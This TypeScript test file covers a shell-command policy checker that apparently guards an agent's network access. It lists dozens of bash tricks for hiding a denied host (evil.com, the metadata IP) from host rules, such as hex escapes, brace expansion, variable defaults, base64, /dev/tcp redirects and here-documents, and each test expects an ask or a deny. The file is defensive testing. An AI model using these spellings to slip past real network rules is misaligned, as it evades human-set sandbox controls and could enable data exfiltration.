// Host rules against shell lines that build the host at run time or spell it so that only bash
// sees it: ANSI-C quotes, brace expansion, `${x:-…}` defaults, variables, substitutions, globs.
// Each such line was let through a deny of the host before (red-team finding F3); each must now
// get at least the policy ask that `curl evil.com` gets. Lines naming no such host still run.
import { describe, expect, it } from "vitest";
import type { PolicyRule } from "./rules";
import { judgeShellNoting, policyOf } from "../testing/policy";
import { expandWord } from "./hosts-words";

const policy = policyOf;
const judge = judgeShellNoting;

const HOSTS = policy({ effect: "deny", host: "evil.com" }, { effect: "deny", host: "169.254.169.254" });
// With the programs allowed, a line the host rules let through runs without a card.
const ALLOWED = policy(
  { effect: "deny", host: "evil.com" },
  { effect: "deny", host: "169.254.169.254" },
  ...["curl", "wget", "ls", "cat", "cd", "echo", "grep"].map((c): PolicyRule => ({ effect: "allow", command: c })),
);

describe("a host built or spelled at run time is asked about, as a named one is", () => {
  it("control: a host named in a program's words is asked about", () => {
    expect(judge("xclient evil.com 80", HOSTS)).toMatchObject({ decision: "policy_ask", auto: "ask" });
  });

  it.each([
    // the red team's spellings
    "xclient $'evi\\x6c.com' 80",
    // a \u escape past ASCII is decoded by bash's locale: a run-time word
    "curl $'evil\\u3002com'",
    "curl $'ev\\u00adil.com'",
    "H=evil.com; curl $H",
    "U=http://evil.com; curl $U",
    "curl ${H:-evil.com}",
    "curl evi{l,}.com",
    "curl $(printf %s%s evi l.com)",
    // braces, nested and sequences
    "curl {evil,good}.com",
    "curl e{v,x}il.c{o,x}m",
    "curl {e{v,},x}il.com",
    "curl 169.254.169.{250..254}",
    "curl http://evil{.,}com/",
    // parameter expansion, its defaults and replacements
    "curl ${H-evil.com}",
    "curl ${H:=evil.com}",
    "curl ${H/x/evil.com}",
    'curl "http://${H:-evil.com}/"',
    'curl "https://$H/x"',
    "curl $H",
    "curl ${H}",
    "curl http://$1/",
    // assignments, declarations, reads, loops
    'export H=evil.com; curl "$H"',
    "declare H=evi; curl ${H}l.com",
    "read H <<< evil.com; curl $H",
    "for h in $'evi\\x6c.com'; do curl $h; done",
    "P=$(cat p); HTTPS_PROXY=$P curl https://ok.com",
    "X=$'evi\\x6c.com' sh -c 'curl $X'",
    // substitutions, globs, other programs, input
    "curl `echo evil.com`",
    "curl $(base64 -d <<< ZXZpbC5jb20=)",
    "curl <(echo x) evil.co?",
    "curl evi*",
    "cat hosts.txt | xargs curl",
    "nc $H 80",
    'telnet <<< "open $H 80"',
    "sh -c 'curl $H'",
  ])("%s", (command) => {
    const d = judge(command, HOSTS);
    expect(d).toMatchObject({ decision: "policy_ask", auto: "ask" });
    expect(d.unchecked).toMatch(/could not check which hosts/);
  });

  // curl and wget fetch each operand (no scheme: http), ssh connects to its destination, and
  // bash decodes $'…' as it parses: the host is the call's, as a URL's, and denied outright.
  it.each([
    "curl evil.com",
    "curl $'evi\\x6c.com'",
    "curl $'169.254.169.25\\x34'",
    "wget $'evi\\x6c.com'",
    "curl $'\\145vil.com'",
    "curl $'\\u0065vil.com'",
    "curl $'\\U00000065vil.com'",
    "curl $'evil\\x2ecom'",
    "curl $'28520391\\x36\\x36'",
    "curl x$'\\x40'evil.com",
    // what the URL parser folds into a host: other dots, invisible and full-width characters
    "curl evil\u3002com",
    "curl evil\uff0ecom",
    "curl ev\u00adil.com",
    "curl ev\u200bil.com",
    "ssh $'git@evi\\x6c.com'",
    "HTTPS_PROXY=http://evil.com curl https://ok.com",
  ])("%s is denied: the client's operand is where it connects", (command) => {
    expect(judge(command, HOSTS)).toMatchObject({ decision: "policy_deny", auto: "deny" });
  });

  // bash decodes $'…' as it parses: a URL spelled so is the URL, and its host is denied outright.
  it.each(["curl $'http://evi\\x6c.com/'", "git clone $'https://evi\\x6c.com/r.git'", "curl $'http://\\145vil.com'"])(
    "%s is denied",
    (command) => {
      expect(judge(command, HOSTS)).toMatchObject({ decision: "policy_deny", auto: "deny" });
    },
  );

  it("says why: the name it found, or the word only known at run time", () => {
    expect(judge("xclient $'evi\\x6c.com' 80", HOSTS).unchecked).toContain("it names evil.com");
    expect(judge("curl evi{l,}.com", HOSTS).unchecked).toContain("it names evil.com");
    expect(judge("curl $H", HOSTS).unchecked).toContain("`$H` is only known at run time");
  });

  it("holds for a catch-all rule and a rule on one command too", () => {
    expect(judge("curl $H", policy({ effect: "ask", host: "*" })).decision).toBe("policy_ask");
    const curl = policy({ effect: "deny", host: "evil.com", command: "curl" });
    expect(judge("curl evi{l,}.com", curl).decision).toBe("policy_ask");
    expect(judge("curl ${H:-evil.com}", curl).decision).toBe("policy_ask");
  });
});

describe("lines whose words bash values without run time still run", () => {
  it.each([
    "curl https://ok.com/{a,b}.json",
    "curl $'https://ok.com/\\x61'",
    "curl -o ~/x.json https://ok.com/x.json",
    "cd ~/proj && curl -sS https://ok.com",
    "ls src/*.ts && curl https://ok.com",
    "grep -n TODO src/*.ts",
    "cat ~/.npmrc",
    "echo 'curl $H' && wget -q https://ok.com/f",
    "H=ok.com; echo done",
  ])("%s", (command) => {
    // A command rule may still not allow a word it cannot value; the host rules add nothing.
    const d = judge(command, ALLOWED);
    expect(d.unchecked).toBeUndefined();
    expect(d.auto).toBe("run");
  });
  it("a plain one is allowed by the command rules", () => {
    expect(judge("echo 'curl $H' && wget -q https://ok.com/f", ALLOWED).decision).toBe("policy_allow");
  });
});

describe("expandWord", () => {
  it.each([
    ["$'evi\\x6c.com'", ["evil.com"]],
    ["$'\\145\\166il'", ["evil"]],
    ["$'a\\'b'", ["a'b"]],
    ["a{b,c{d,e}}f", ["abf", "acdf", "acef"]],
    ["x{1..3}", ["x1", "x2", "x3"]],
    ["{08..10}", ["08", "09", "10"]],
    ["{a..c}", ["a", "b", "c"]],
    ["'{a,b}'", ["{a,b}"]],
    ['"a"\\ b', ["a b"]],
    ["~/x", ["/~/x"]],
  ])("%s → %j", (source, values) => {
    expect(expandWord(source)).toMatchObject({ values, unknown: false });
  });

  it.each(["$H", "${H:-evil.com}", "`x`", "$(x)", "a*", "<input of xargs>"])("%s is only known at run time", (source) =>
    expect(expandWord(source).unknown).toBe(true),
  );

  // The analysis called these dynamic for what this reader does not expand (`find -exec … {}`).
  it.each(["{}", "{1..100000}", "{a}"])("%s is not explained, so not taken for its text", (source) =>
    expect(expandWord(source).explained).toBe(false),
  );

  it("keeps the literal text of an unknown word, defaults included", () => {
    expect(expandWord("${H:-evil.com}").fragments).toContain("evil.com");
    expect(expandWord('"http://$H/x"').fragments.join("")).toBe("http:// /x");
    expect(expandWord("a=$'\\x41'", true).values).toEqual(["a=A"]);
    expect(expandWord("{a,b}", true).values).toEqual(["{a,b}"]);
  });
});

describe("a word known only at run time, on a line without network", () => {
  // The sandbox gives such a line no network: its variables reach no host, so a host rule does
  // not make every `$X` a question; a host it names still is one, as before.
  it.each(["echo $HOME", "npm test -- --grep=$X", "ls $(pwd)", "cat ${F:-a.txt}"])(
    "%s: no question without network, a policy ask with it",
    (line) => {
      expect(judge(line, HOSTS, false).decision).not.toBe("policy_ask");
      expect(judge(line, HOSTS, true)).toMatchObject({ decision: "policy_ask", auto: "ask" });
    },
  );

  it("a named or decoded host is still asked about without network", () => {
    expect(judge("xclient evil.com 80", HOSTS, false).decision).toBe("policy_ask");
    expect(judge("xclient $'evi\\x6c.com' 80", HOSTS, false).decision).toBe("policy_ask");
    // as a URL's host is: the line names where it goes, network or not
    expect(judge("curl $'evi\\x6c.com'", HOSTS, false).decision).toBe("policy_deny");
  });
});

describe("a host reached by a bash redirect or written in a here-document is judged through decide()", () => {
  it.each([
    "exec 3<>/dev/tcp/evil.com/80",
    "cat </dev/tcp/evil.com/443",
    "echo x >/dev/udp/169.254.169.254/53",
    'cat < "/dev/tcp/evi"l.com/80',
    "{ echo GET /; cat; } 3<>/dev/tcp/$'evi\\x6c.com'/80",
    "while read l; do echo $l; done </dev/tcp/evil.com/80",
    "bash -c 'cat </dev/tcp/evil.com/80'",
    'python3 - <<EOF\nimport urllib.request; urllib.request.urlopen("http://evil.com")\nEOF',
    "curl -K - <<<'url = \"https://evil.com\"'",
    "bash <<'EOF'\ncurl evil.com\nEOF",
    "ls && cat <<-EOF\n\thttp://evil.com\n\tEOF",
  ])("%j", (line) => {
    const verdict = judge(line, ALLOWED);
    expect(verdict.decision).not.toBe("allow");
    expect(verdict.auto).not.toBe("run");
  });

  it.each([
    "cat </dev/tcp/example.com/80",
    "cat > README.md <<'EOF'\nSee https://example.com for more.\nEOF",
    "cat <<<'hello'",
  ])("another host, or none, under the same rules runs: %j", (line) => {
    expect(judge(line, ALLOWED)).toMatchObject({ decision: "policy_allow", auto: "run" });
  });
});
